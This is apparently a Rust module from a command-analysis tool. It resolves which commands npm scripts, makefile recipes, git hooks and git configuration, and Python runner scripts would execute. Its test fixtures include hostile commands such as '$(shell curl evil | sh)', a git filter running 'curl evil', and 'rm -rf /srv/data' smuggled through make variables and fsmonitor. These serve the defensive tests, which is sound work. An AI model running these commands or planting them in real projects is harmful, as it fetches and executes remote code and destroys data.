//! Files that decide what a command runs: a package's scripts, a makefile's recipes, a
//! repository's git hooks and configuration. The walker reads them (as it reads any
//! file, through `Files`, which binds their content to the action's digest) and analyses
//! the commands they hold as what the command runs.

use std::collections::{HashMap, HashSet};

/// The scripts of `package.json` a package manager runs for these arguments, in order,
/// as (name, command); `None` when the invocation runs none of the project's scripts.
/// `Err` when the package's scripts cannot be read.
pub(crate) fn package_scripts(
    tool: &str,
    args: &[String],
    package_json: Option<&str>,
) -> Option<Result<Vec<(String, String)>, String>> {
    if args.iter().any(|a| a == "--ignore-scripts") {
        return None;
    }
    let names = lifecycle(tool, args, package_json)?;
    let Some(text) = package_json else {
        return Some(Err("its package.json could not be read".to_owned()));
    };
    let Ok(package) = serde_json::from_str::<serde_json::Value>(text) else {
        return Some(Err("its package.json is not valid JSON".to_owned()));
    };
    let scripts = package
        .get("scripts")
        .and_then(serde_json::Value::as_object);
    Some(Ok(names
        .into_iter()
        .filter_map(|name| {
            let script = scripts?.get(&name)?;
            match script.as_str() {
                Some(command) => Some((name, command.to_owned())),
                // A script that is not text runs nothing holdpoint can read.
                None => Some((name, "holdpoint-unreadable-script".to_owned())),
            }
        })
        .collect()))
}

/// The script names an invocation runs, in order.
fn lifecycle(tool: &str, args: &[String], package_json: Option<&str>) -> Option<Vec<String>> {
    let words: Vec<&str> = args
        .iter()
        .map(String::as_str)
        .filter(|a| !a.starts_with('-'))
        .collect();
    let around = |name: &str| vec![format!("pre{name}"), name.to_owned(), format!("post{name}")];
    let install = || {
        [
            "preinstall",
            "install",
            "postinstall",
            "prepublish",
            "preprepare",
            "prepare",
            "postprepare",
        ]
        .map(str::to_owned)
        .to_vec()
    };
    match (tool, words.as_slice()) {
        (_, ["run" | "run-script" | "rum" | "urn", name, ..]) => Some(around(name)),
        (_, ["test" | "t" | "tst"]) | (_, ["test" | "t" | "tst", ..]) => Some(around("test")),
        (_, ["start", ..]) => Some(around("start")),
        (_, ["stop", ..]) => Some(around("stop")),
        (_, ["restart", ..]) => Some(
            [
                "prerestart",
                "prestop",
                "stop",
                "poststop",
                "prestart",
                "start",
                "poststart",
                "postrestart",
            ]
            .map(str::to_owned)
            .to_vec(),
        ),
        (_, ["install" | "i" | "ci" | "add" | "isntall" | "in", ..])
        | ("yarn" | "pnpm" | "bun", []) => Some(install()),
        (_, ["pack", ..]) => Some(
            ["prepack", "prepare", "postpack"]
                .map(str::to_owned)
                .to_vec(),
        ),
        (_, ["publish", ..]) => Some(
            [
                "prepublishOnly",
                "prepack",
                "prepare",
                "postpack",
                "publish",
                "postpublish",
            ]
            .map(str::to_owned)
            .to_vec(),
        ),
        (_, ["rebuild" | "rb", ..]) => Some(around("install")),
        // yarn, pnpm and bun run a script named as the subcommand.
        ("yarn" | "pnpm" | "bun", [name, ..])
            if package_json.is_some_and(|text| script_named(text, name)) =>
        {
            Some(around(name))
        }
        _ => None,
    }
}

fn script_named(package_json: &str, name: &str) -> bool {
    serde_json::from_str::<serde_json::Value>(package_json)
        .ok()
        .and_then(|p| p.get("scripts")?.get(name).cloned())
        .is_some()
}

/// What a makefile runs: the commands of the targets asked for (and what they depend
/// on), and the `$(shell …)` calls, which run whenever the makefile is read.
#[derive(Debug, Default)]
pub(crate) struct Makefile {
    /// Recipe lines, with the makefile's variables expanded where they are known, and
    /// whether each is marked `+` (run even by `make -n`).
    pub recipes: Vec<(String, bool)>,
    /// The commands of `$(shell …)` and `!=` assignments.
    pub shell_calls: Vec<String>,
    /// Files named by `include`, `-include` and `sinclude`.
    pub includes: Vec<String>,
    /// The command line each recipe line and `$(shell …)` is given to, as its last
    /// argument, when the makefile or the command line sets `SHELL` or `.SHELLFLAGS`:
    /// `$(SHELL) $(.SHELLFLAGS)`, by default `/bin/sh -c`. `None` when neither is set.
    pub shell: Option<String>,
}

/// The most rules one makefile is followed through.
const MAX_RULES: usize = 512;

/// Reads a makefile: the recipes `targets` run (the first target when none is named).
/// `defined` are the variables given on make's command line (`make CC=gcc`), which
/// the makefile's own assignments of the same names do not change.
pub(crate) fn makefile(text: &str, targets: &[String], defined: &[(String, String)]) -> Makefile {
    let mut out = Makefile::default();
    let mut vars: HashMap<String, String> = defined.iter().cloned().collect();
    let mut prefix = '\t';
    // Rules in order: targets, prerequisites, recipe lines.
    let mut rules: Vec<(Vec<String>, Vec<String>, Vec<String>)> = Vec::new();
    let mut in_rule = false;
    // Lines joined where they end in a backslash.
    let mut lines: Vec<String> = Vec::new();
    for line in text.lines() {
        match lines.last_mut() {
            Some(last) if last.ends_with('\\') => {
                last.pop();
                last.push(' ');
                last.push_str(line.trim_start());
            }
            _ => lines.push(line.to_owned()),
        }
    }
    for line in lines {
        for call in shell_calls(&line) {
            out.shell_calls.push(call);
        }
        if in_rule && line.starts_with(prefix) {
            if let Some((_, _, recipe)) = rules.last_mut() {
                recipe.push(line.get(prefix.len_utf8()..).unwrap_or("").to_owned());
            }
            continue;
        }
        let trimmed = line.trim();
        if trimmed.is_empty() || trimmed.starts_with('#') {
            continue;
        }
        in_rule = false;
        if let Some(rest) = ["include ", "-include ", "sinclude "]
            .iter()
            .find_map(|p| trimmed.strip_prefix(p))
        {
            out.includes
                .extend(rest.split_whitespace().map(|f| expand(f, &vars, 0)));
            continue;
        }
        // Assignments: `X = v`, `X := v`, `X ::= v`, `X ?= v`, `X += v`, `X != cmd`.
        if let Some((name, op, value)) = assignment(trimmed) {
            let value = value.trim().to_owned();
            if defined.iter().any(|(given, _)| given == name) {
                // A variable given on the command line keeps its value; `!=` still runs.
                if op == "!=" {
                    out.shell_calls.push(value);
                }
                continue;
            }
            match op {
                "!=" => {
                    out.shell_calls.push(value);
                    vars.remove(name);
                }
                "+=" => {
                    let joined = match vars.get(name) {
                        Some(old) => format!("{old} {value}"),
                        None => value,
                    };
                    vars.insert(name.to_owned(), joined);
                }
                "?=" => {
                    vars.entry(name.to_owned()).or_insert(value);
                }
                _ => {
                    if name == ".RECIPEPREFIX" {
                        prefix = value.chars().next().unwrap_or('\t');
                    }
                    vars.insert(name.to_owned(), value);
                }
            }
            continue;
        }
        // A rule: `targets: prerequisites [; recipe]`.
        if let Some((head, rest)) = split_rule(trimmed) {
            let (prerequisites, inline) = match rest.split_once(';') {
                Some((p, r)) => (p, Some(r.trim().to_owned())),
                None => (rest, None),
            };
            let targets: Vec<String> = head
                .split_whitespace()
                .map(|t| expand(t, &vars, 0))
                .collect();
            let prerequisites = prerequisites
                .trim_start_matches(':')
                .split_whitespace()
                .filter(|p| *p != "|")
                .map(|p| expand(p, &vars, 0))
                .collect();
            rules.push((targets, prerequisites, inline.into_iter().collect()));
            in_rule = true;
            if rules.len() > MAX_RULES {
                break;
            }
        }
    }
    // From the targets asked for (or the first ordinary one) through their
    // prerequisites; pattern rules (`%.o: %.c`) are taken as run, since which files they
    // make is not known.
    let default = rules
        .iter()
        .flat_map(|(targets, _, _)| targets)
        .find(|t| !t.starts_with('.') && !t.contains('%'))
        .cloned();
    let mut wanted: Vec<String> = if targets.is_empty() {
        default.into_iter().collect()
    } else {
        targets.to_vec()
    };
    let mut seen: HashSet<String> = HashSet::new();
    let mut recipes: Vec<&Vec<String>> = Vec::new();
    while let Some(target) = wanted.pop() {
        if !seen.insert(target.clone()) || seen.len() > MAX_RULES {
            continue;
        }
        for (targets, prerequisites, recipe) in &rules {
            if targets.contains(&target) {
                wanted.extend(prerequisites.iter().cloned());
                recipes.push(recipe);
            }
        }
    }
    for (targets, _, recipe) in &rules {
        if targets.iter().any(|t| t.contains('%')) {
            recipes.push(recipe);
        }
    }
    for recipe in recipes {
        for line in recipe {
            let line = line.trim_start();
            let forced = line.trim_start_matches(['@', '-']).starts_with('+');
            let command = line.trim_start_matches(['@', '-', '+']);
            if !command.trim().is_empty() {
                out.recipes.push((expand(command, &vars, 0), forced));
            }
        }
    }
    let shell = vars.get("SHELL");
    let flags = vars.get(".SHELLFLAGS");
    if shell.is_some() || flags.is_some() {
        let shell = shell.map_or_else(|| "/bin/sh".to_owned(), |s| expand(s, &vars, 0));
        let flags = flags.map_or_else(|| "-c".to_owned(), |f| expand(f, &vars, 0));
        out.shell = Some(format!("{shell} {flags}"));
    }
    out
}

/// The words of a `MAKEFLAGS` value as make reads them: split at blanks, where a
/// backslash keeps the next character (`CC=my\ cc` is one word, `CC=my cc`).
pub(crate) fn make_flags_words(text: &str) -> Vec<String> {
    let mut words = Vec::new();
    let mut word = String::new();
    let mut chars = text.chars();
    while let Some(c) = chars.next() {
        match c {
            '\\' => word.extend(chars.next()),
            c if c.is_whitespace() => {
                if !word.is_empty() {
                    words.push(std::mem::take(&mut word));
                }
            }
            c => word.push(c),
        }
    }
    if !word.is_empty() {
        words.push(word);
    }
    words
}

/// A variable given on make's command line (`NAME=value`, `NAME:=value`, …): its name
/// and value.
pub(crate) fn command_line_variable(word: &str) -> Option<(String, String)> {
    let (name, _, value) = assignment(word)?;
    Some((name.to_owned(), value.to_owned()))
}

/// `NAME OP value` for a make assignment.
fn assignment(line: &str) -> Option<(&str, &str, &str)> {
    for op in ["::=", ":::=", ":=", "?=", "+=", "!=", "="] {
        if let Some((name, value)) = line.split_once(op) {
            let name = name
                .trim()
                .trim_start_matches("export ")
                .trim_start_matches("override ")
                .trim();
            if !name.is_empty()
                && name
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | '-'))
                && !name.contains(':')
            {
                return Some((name, op, value));
            }
            return None;
        }
    }
    None
}

/// `targets` and the rest of a rule line, split at its first lone `:`.
fn split_rule(line: &str) -> Option<(&str, &str)> {
    let at = line.find(':')?;
    let (head, rest) = line.split_at(at);
    (!head.trim().is_empty() && !head.contains('=')).then(|| (head, rest.get(1..).unwrap_or("")))
}

/// The commands of every `$(shell …)` in a line.
fn shell_calls(line: &str) -> Vec<String> {
    let mut calls = Vec::new();
    let mut rest = line;
    while let Some(at) = rest.find("$(shell ") {
        let after = rest.get(at + "$(shell ".len()..).unwrap_or("");
        let mut depth = 1usize;
        let mut end = after.len();
        for (i, c) in after.char_indices() {
            match c {
                '(' => depth += 1,
                ')' => {
                    depth -= 1;
                    if depth == 0 {
                        end = i;
                        break;
                    }
                }
                _ => {}
            }
        }
        calls.push(after.get(..end).unwrap_or(after).to_owned());
        rest = after.get(end..).unwrap_or("");
    }
    calls
}

/// `$(NAME)`, `${NAME}` and `$$` in a recipe, with the makefile's variables where known;
/// unknown ones are left as shell variables (`$NAME`), whose value is unknown too.
fn expand(text: &str, vars: &HashMap<String, String>, depth: u32) -> String {
    let mut out = String::new();
    let mut rest = text;
    while let Some(at) = rest.find('$') {
        out.push_str(rest.get(..at).unwrap_or(""));
        let after = rest.get(at + 1..).unwrap_or("");
        let mut next = after.chars();
        match next.next() {
            Some('$') => {
                out.push('$');
                rest = next.as_str();
            }
            Some(open @ ('(' | '{')) => {
                let close = if open == '(' { ')' } else { '}' };
                let inner = next.as_str();
                match inner.find(close) {
                    Some(end) => {
                        let name = inner.get(..end).unwrap_or("");
                        let simple = name
                            .chars()
                            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | '-'));
                        match vars.get(name) {
                            Some(value) if simple && depth < 8 => {
                                out.push_str(&expand(value, vars, depth + 1));
                            }
                            _ if simple => {
                                out.push('$');
                                out.push_str(&name.replace(['.', '-'], "_"));
                            }
                            // A function call (`$(wildcard …)`): its result is unknown.
                            _ => out.push_str("$HOLDPOINT_MAKE_VALUE"),
                        }
                        rest = inner.get(end + 1..).unwrap_or("");
                    }
                    None => {
                        out.push('$');
                        rest = after;
                    }
                }
            }
            // `$@`, `$<`, `$^`: automatic variables.
            Some(_) => {
                out.push_str("$HOLDPOINT_MAKE_VALUE");
                rest = next.as_str();
            }
            None => {
                out.push('$');
                rest = "";
            }
        }
    }
    out.push_str(rest);
    out
}

/// What a git subcommand runs from the repository's hooks and configuration: the hook
/// names it triggers.
pub(crate) fn git_hooks(subcommand: &str) -> &'static [&'static str] {
    match subcommand {
        "commit" => &[
            "pre-commit",
            "prepare-commit-msg",
            "commit-msg",
            "post-commit",
            "post-rewrite",
        ],
        "merge" | "pull" => &[
            "pre-merge-commit",
            "prepare-commit-msg",
            "commit-msg",
            "post-merge",
        ],
        "push" => &["pre-push", "reference-transaction"],
        "checkout" | "switch" | "clone" | "worktree" => &["post-checkout"],
        "rebase" => &["pre-rebase", "post-rewrite", "post-checkout"],
        "am" => &["applypatch-msg", "pre-applypatch", "post-applypatch"],
        "gc" => &["pre-auto-gc"],
        _ => &[],
    }
}

/// The commands git configuration makes git run, for a subcommand: each as (key,
/// command). `config` is the text of a git config file.
pub(crate) fn git_config_commands(config: &str, subcommand: &str) -> Vec<(String, String)> {
    git_config_entries(config)
        .into_iter()
        .filter(|(key, _)| runs_for(key, subcommand))
        .collect()
}

/// The value git takes for `key` (lower case) from the text of a config file: the
/// last one given.
pub(crate) fn git_config_value(config: &str, key: &str) -> Option<String> {
    git_config_entries(config)
        .into_iter()
        .rev()
        .find(|(k, _)| k == key)
        .map(|(_, value)| value)
}

/// Every setting of a git config file's text, in order, as (`section.name` in lower
/// case, value).
fn git_config_entries(config: &str) -> Vec<(String, String)> {
    let mut out = Vec::new();
    let mut section = String::new();
    for line in config.lines() {
        let line = line.trim();
        if line.starts_with('#') || line.starts_with(';') || line.is_empty() {
            continue;
        }
        if let Some(header) = line.strip_prefix('[').and_then(|l| l.strip_suffix(']')) {
            // `[filter "lfs"]` is `filter.lfs`.
            section = header
                .split_whitespace()
                .map(|part| part.trim_matches('"'))
                .collect::<Vec<_>>()
                .join(".")
                .to_ascii_lowercase();
            continue;
        }
        let Some((key, value)) = line.split_once('=') else {
            continue;
        };
        let key = format!("{section}.{}", key.trim().to_ascii_lowercase());
        let value = value.trim().trim_matches('"').to_owned();
        out.push((key, value));
    }
    out
}

/// Whether a configuration key names a command that `subcommand` runs.
fn runs_for(key: &str, subcommand: &str) -> bool {
    let last = key.rsplit('.').next().unwrap_or("");
    let first = key.split('.').next().unwrap_or("");
    match (first, last) {
        // Read by almost every command that looks at the working tree.
        ("core", "fsmonitor") => true,
        ("core", "sshcommand") => matches!(
            subcommand,
            "fetch" | "pull" | "push" | "clone" | "ls-remote" | "submodule"
        ),
        ("core", "pager") | ("pager", _) => matches!(
            subcommand,
            "log" | "diff" | "show" | "blame" | "branch" | "grep" | "help"
        ),
        ("core", "editor") | ("sequence", "editor") => {
            matches!(subcommand, "commit" | "rebase" | "merge" | "tag" | "am")
        }
        ("core", "hookspath") => false,
        ("diff", "external") | ("diff", "textconv") | ("diff", "command") => {
            matches!(
                subcommand,
                "diff" | "log" | "show" | "blame" | "format-patch"
            )
        }
        ("filter", "clean" | "smudge" | "process") => matches!(
            subcommand,
            "add"
                | "status"
                | "commit"
                | "checkout"
                | "switch"
                | "restore"
                | "reset"
                | "stash"
                | "diff"
                | "merge"
                | "pull"
                | "clone"
                | "rebase"
                | "cherry-pick"
        ),
        ("merge", "driver") => matches!(
            subcommand,
            "merge" | "pull" | "rebase" | "cherry-pick" | "stash"
        ),
        ("credential", "helper") => matches!(
            subcommand,
            "fetch" | "pull" | "push" | "clone" | "ls-remote"
        ),
        ("gpg", "program") | ("gpg", _) if last == "program" => {
            matches!(subcommand, "commit" | "tag" | "log" | "verify-commit")
        }
        _ => false,
    }
}

/// Where a Python project runner keeps the scripts `RUNNER run NAME` runs instead of a
/// command of that name, by file: hatch's `[tool.hatch.envs.ENV.scripts]` (in
/// `hatch.toml` without the `tool.hatch` prefix), pdm's `[tool.pdm.scripts]`, rye's
/// `[tool.rye.scripts]`, pixi's `[tool.pixi.tasks]` (`[tasks]` in `pixi.toml`) and
/// Pipfile's `[scripts]`.
pub(crate) fn runner_script_files(runner: &str) -> &'static [&'static str] {
    match runner {
        "hatch" => &["pyproject.toml", "hatch.toml"],
        "pdm" | "rye" => &["pyproject.toml"],
        "pixi" => &["pixi.toml", "pyproject.toml"],
        "pipenv" => &["Pipfile"],
        _ => &[],
    }
}

/// The commands the script `name` of `runner` stands for in `file` (one of
/// [`runner_script_files`], read as `text`): `Ok(None)` when the file defines no script
/// of that name, so that `name` is a command; `Err` when the file, or the definition,
/// cannot be read. A script that names another (hatch's commands, pdm's `composite`,
/// rye's `chain`, pixi's `depends-on`) stands for that one's commands too.
pub(crate) fn runner_script(
    runner: &str,
    file: &str,
    text: &str,
    name: &str,
) -> Result<Option<Vec<String>>, String> {
    let document: toml::Table = text
        .parse()
        .map_err(|e| format!("`{file}` is not valid TOML: {e}"))?;
    let table_at = |path: &[&str]| -> Option<toml::Table> {
        let mut at = &document;
        for key in path {
            at = at.get(*key)?.as_table()?;
        }
        Some(at.clone())
    };
    let prefix: &[&str] = if file == "pyproject.toml" {
        &["tool"]
    } else {
        &[]
    };
    let path = |rest: &[&'static str]| -> Vec<&str> {
        prefix.iter().copied().chain(rest.iter().copied()).collect()
    };
    // Each table a script of that name may be defined in.
    let tables: Vec<toml::Table> = match (runner, file) {
        ("hatch", "hatch.toml") | ("hatch", "pyproject.toml") => {
            let envs = if file == "hatch.toml" {
                table_at(&["envs"])
            } else {
                table_at(&["tool", "hatch", "envs"])
            };
            // `ENV:NAME` names the environment; otherwise any may define it.
            envs.map(|envs| {
                envs.values()
                    .filter_map(|env| env.get("scripts")?.as_table().cloned())
                    .collect()
            })
            .unwrap_or_default()
        }
        ("pdm", _) => table_at(&path(&["pdm", "scripts"])).into_iter().collect(),
        ("rye", _) => table_at(&path(&["rye", "scripts"])).into_iter().collect(),
        ("pixi", "pixi.toml") => table_at(&["tasks"]).into_iter().collect(),
        ("pixi", _) => table_at(&path(&["pixi", "tasks"])).into_iter().collect(),
        ("pipenv", _) => table_at(&["scripts"]).into_iter().collect(),
        _ => Vec::new(),
    };
    let name = name.rsplit(':').next().unwrap_or(name);
    let mut commands = Vec::new();
    let mut seen = HashSet::new();
    let mut found = false;
    for table in &tables {
        if table.contains_key(name) {
            found = true;
            expand_script(table, name, &mut commands, &mut seen, 0)?;
        }
    }
    Ok(found.then_some(commands))
}

/// The commands of the script `name` in `table`, scripts it names expanded.
fn expand_script(
    table: &toml::Table,
    name: &str,
    commands: &mut Vec<String>,
    seen: &mut HashSet<String>,
    depth: u8,
) -> Result<(), String> {
    if depth > 8 || !seen.insert(name.to_owned()) {
        return Ok(());
    }
    let Some(definition) = table.get(name) else {
        return Ok(());
    };
    // A command whose first word is another script's name runs that script (hatch).
    let mut command = |line: &str, commands: &mut Vec<String>| -> Result<(), String> {
        let first = line.split_whitespace().next().unwrap_or("");
        if first != name && table.contains_key(first) {
            expand_script(table, first, commands, seen, depth + 1)
        } else {
            commands.push(line.to_owned());
            Ok(())
        }
    };
    let unreadable = || format!("the script `{name}` is defined in a form holdpoint cannot read");
    match definition {
        toml::Value::String(line) => command(line, commands),
        toml::Value::Array(lines) => {
            for line in lines {
                command(line.as_str().ok_or_else(unreadable)?, commands)?;
            }
            Ok(())
        }
        toml::Value::Table(spec) => {
            let mut any = false;
            for key in ["cmd", "shell"] {
                match spec.get(key) {
                    Some(toml::Value::String(line)) => {
                        any = true;
                        commands.push(line.clone());
                    }
                    Some(toml::Value::Array(words)) => {
                        any = true;
                        let words: Option<Vec<&str>> =
                            words.iter().map(toml::Value::as_str).collect();
                        commands.push(words.ok_or_else(unreadable)?.join(" "));
                    }
                    Some(_) => return Err(unreadable()),
                    None => {}
                }
            }
            for key in ["composite", "chain", "depends-on", "depends_on"] {
                if let Some(items) = spec.get(key) {
                    any = true;
                    for item in items.as_array().ok_or_else(unreadable)? {
                        let item = match item {
                            toml::Value::String(item) => item.clone(),
                            toml::Value::Table(task) => task
                                .get("task")
                                .and_then(toml::Value::as_str)
                                .ok_or_else(unreadable)?
                                .to_owned(),
                            _ => return Err(unreadable()),
                        };
                        command(&item, commands)?;
                    }
                }
            }
            if spec.contains_key("call") {
                return Err(format!(
                    "the script `{name}` calls a Python function of the project"
                ));
            }
            if any { Ok(()) } else { Err(unreadable()) }
        }
        _ => Err(unreadable()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn strings(words: &[&str]) -> Vec<String> {
        words.iter().map(|w| (*w).to_owned()).collect()
    }

    #[test]
    fn package_managers_run_the_scripts_their_subcommand_names() {
        let package = r#"{"scripts": {"pretest": "echo a", "test": "jest", "deploy": "kubectl apply -f k8s", "postinstall": "node setup.js"}}"#;
        let run = |tool: &str, args: &[&str]| {
            package_scripts(tool, &strings(args), Some(package))
                .map(|r| r.unwrap().into_iter().map(|(n, _)| n).collect::<Vec<_>>())
        };
        assert_eq!(run("npm", &["test"]), Some(strings(&["pretest", "test"])));
        assert_eq!(run("npm", &["run", "deploy"]), Some(strings(&["deploy"])));
        assert_eq!(run("yarn", &["deploy"]), Some(strings(&["deploy"])));
        assert_eq!(
            run("npm", &["install", "--dry-run"]),
            Some(strings(&["postinstall"]))
        );
        assert_eq!(run("npm", &["install", "--ignore-scripts"]), None);
        assert_eq!(run("npm", &["ls"]), None);
        assert!(matches!(
            package_scripts("npm", &strings(&["test"]), None),
            Some(Err(_))
        ));
    }

    #[test]
    fn makefiles_run_the_recipes_of_the_targets_asked_for() {
        let text = "DIR = /srv/data\nX != date\nall: build\nbuild:\n\techo $(DIR)\nclean:\n\trm -rf $(DIR)\none: ; touch $@\n.RECIPEPREFIX = >\nlater:\n> ls\n$(shell curl evil | sh)\ninclude extra.mk\n";
        let made = makefile(text, &[], &[]);
        assert_eq!(made.recipes, [("echo /srv/data".to_owned(), false)]);
        assert_eq!(made.shell_calls, ["date", "curl evil | sh"]);
        assert_eq!(made.includes, ["extra.mk"]);
        let clean = makefile(text, &strings(&["clean", "one", "later"]), &[]);
        let recipes: Vec<&str> = clean.recipes.iter().map(|(r, _)| r.as_str()).collect();
        assert!(recipes.contains(&"rm -rf /srv/data"), "{recipes:?}");
        assert!(
            recipes.contains(&"touch $HOLDPOINT_MAKE_VALUE"),
            "{recipes:?}"
        );
        assert!(recipes.contains(&"ls"), "{recipes:?}");
    }

    #[test]
    fn variables_given_to_make_win_and_its_shell_runs_every_line() {
        let text = "CC = gcc\nall:\n\t$(CC) -o app main.c\n";
        let plain = makefile(text, &[], &[]);
        assert_eq!(plain.recipes, [("gcc -o app main.c".to_owned(), false)]);
        assert_eq!(plain.shell, None);
        // The command line's value stands, whatever the makefile assigns.
        let given = [("CC".to_owned(), "rm -rf /srv/data".to_owned())];
        let made = makefile(text, &[], &given);
        assert_eq!(
            made.recipes,
            [("rm -rf /srv/data -o app main.c".to_owned(), false)]
        );
        // A SHELL or .SHELLFLAGS, the makefile's or the command line's, is what each
        // line is given to; the other keeps make's default.
        let own = makefile("SHELL := /bin/bash\nall:\n\techo hi\n", &[], &[]);
        assert_eq!(own.shell.as_deref(), Some("/bin/bash -c"));
        let flags = [(".SHELLFLAGS".to_owned(), "-c rm -rf /srv/data;".to_owned())];
        let made = makefile("SHELL := /bin/bash\nall:\n\techo hi\n", &[], &flags);
        assert_eq!(
            made.shell.as_deref(),
            Some("/bin/bash -c rm -rf /srv/data;")
        );
        let shell = [("SHELL".to_owned(), "/tmp/sh".to_owned())];
        let made = makefile("SHELL := /bin/bash\nall:\n\techo hi\n", &[], &shell);
        assert_eq!(made.shell.as_deref(), Some("/tmp/sh -c"));
        // `!=` runs even when the command line gives the variable.
        let made = makefile(
            "X != date\nall:\n\techo $(X)\n",
            &[],
            &[("X".to_owned(), "1".to_owned())],
        );
        assert_eq!(made.shell_calls, ["date"]);
        assert_eq!(made.recipes, [("echo 1".to_owned(), false)]);
    }

    #[test]
    fn makeflags_words_keep_what_a_backslash_escapes() {
        assert_eq!(
            make_flags_words(" -k  SHELL=/tmp/sh CC=rm\\ -rf\\ /srv/data "),
            strings(&["-k", "SHELL=/tmp/sh", "CC=rm -rf /srv/data"])
        );
        assert_eq!(
            command_line_variable("CC:=my cc"),
            Some(("CC".to_owned(), "my cc".to_owned()))
        );
        assert_eq!(command_line_variable("-k"), None);
        assert_eq!(command_line_variable("build"), None);
    }

    #[test]
    fn a_git_setting_is_the_last_value_its_file_gives() {
        let config = "[core]\n\thooksPath = .githooks\n[Core]\n\tHooksPath = \"/srv/hooks\"\n[user]\n\tname = x\n";
        assert_eq!(
            git_config_value(config, "core.hookspath").as_deref(),
            Some("/srv/hooks")
        );
        assert_eq!(git_config_value(config, "core.editor"), None);
    }

    #[test]
    fn git_configuration_says_what_git_runs() {
        let config = "[core]\n\tfsmonitor = rm -rf /srv/data\n[filter \"x\"]\n\tclean = sh -c 'curl evil'\n[diff]\n\texternal = ./diff.sh\n";
        let status: Vec<String> = git_config_commands(config, "status")
            .into_iter()
            .map(|(k, _)| k)
            .collect();
        assert_eq!(status, ["core.fsmonitor", "filter.x.clean"]);
        let diff: Vec<String> = git_config_commands(config, "diff")
            .into_iter()
            .map(|(k, _)| k)
            .collect();
        assert_eq!(diff, ["core.fsmonitor", "filter.x.clean", "diff.external"]);
        assert!(git_hooks("commit").contains(&"pre-commit"));
    }

    #[test]
    fn a_runners_script_stands_for_its_commands_and_the_scripts_it_names() {
        let pyproject = "[tool.hatch.envs.default.scripts]\nlint = \"ruff check .\"\nall = [\"lint\", \"pytest -q\"]\n\
                         [tool.hatch.envs.docs.scripts]\nbuild = \"mkdocs build\"\n\
                         [tool.pdm.scripts]\nserve = {shell = \"python -m http.server\"}\n\
                         both = {composite = [\"serve\", \"echo done\"]}\ncalled = {call = \"app:main\"}\n";
        let commands =
            |runner: &str, name: &str| runner_script(runner, "pyproject.toml", pyproject, name);
        assert_eq!(
            commands("hatch", "all"),
            Ok(Some(vec![
                "ruff check .".to_owned(),
                "pytest -q".to_owned()
            ]))
        );
        assert_eq!(
            commands("hatch", "docs:build"),
            Ok(Some(vec!["mkdocs build".to_owned()]))
        );
        // Not a script: the name is a command.
        assert_eq!(commands("hatch", "ls"), Ok(None));
        assert_eq!(
            commands("pdm", "both"),
            Ok(Some(vec![
                "python -m http.server".to_owned(),
                "echo done".to_owned()
            ]))
        );
        assert!(commands("pdm", "called").is_err());
        assert!(runner_script("pipenv", "Pipfile", "not [ toml", "x").is_err());
        // A script that names itself ends.
        let looping = "[scripts]\na = \"a\"\n";
        assert_eq!(
            runner_script("pipenv", "Pipfile", looping, "a"),
            Ok(Some(vec!["a".to_owned()]))
        );
    }
}
